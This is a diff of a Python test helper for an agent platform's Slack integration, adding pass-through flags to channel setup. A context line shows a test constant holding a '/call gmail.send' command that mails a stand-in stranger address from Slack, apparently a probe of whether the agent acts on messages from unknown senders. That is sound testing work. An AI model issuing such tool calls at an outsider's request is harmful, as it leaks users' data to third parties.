@@ -12,7 +12,7 @@ MAIL = '/call gmail.send {"to": ["pat@stranger.example"], "subject": "From Slack
 
 
 class Slack:
-    def __init__(self, home, agent, unknown="link"):
+    def __init__(self, home, agent, unknown="link", *flags):
         self.home, self.acme, self.name = home, home.acme, f"{agent}-app"
         where = f"{home.url}/hooks/slack/{agent}"
         self.app = self.acme.ask("POST", "/slack/apps", {
@@ -22,7 +22,7 @@ class Slack:
         connection = home.run("connections", "add", "slack", "--agent", f"{agent}-voice", secret=self.app["token"])["id"]
         home.run("channels", "add", "slack", agent, "--connection", connection, "--app-id", self.app["app"],
                  "--team", self.app["team"], "--user", self.app["user"], "--bot-id", self.app["bot"],
-                 "--unknown", unknown, secret=self.app["signing_secret"])
+                 "--unknown", unknown, *flags, secret=self.app["signing_secret"])
 
     def say(self, by, text, **where):
         return self.acme.ask("POST", "/slack/say", {"by": by, "text": text} | (where or {"to": self.name}))
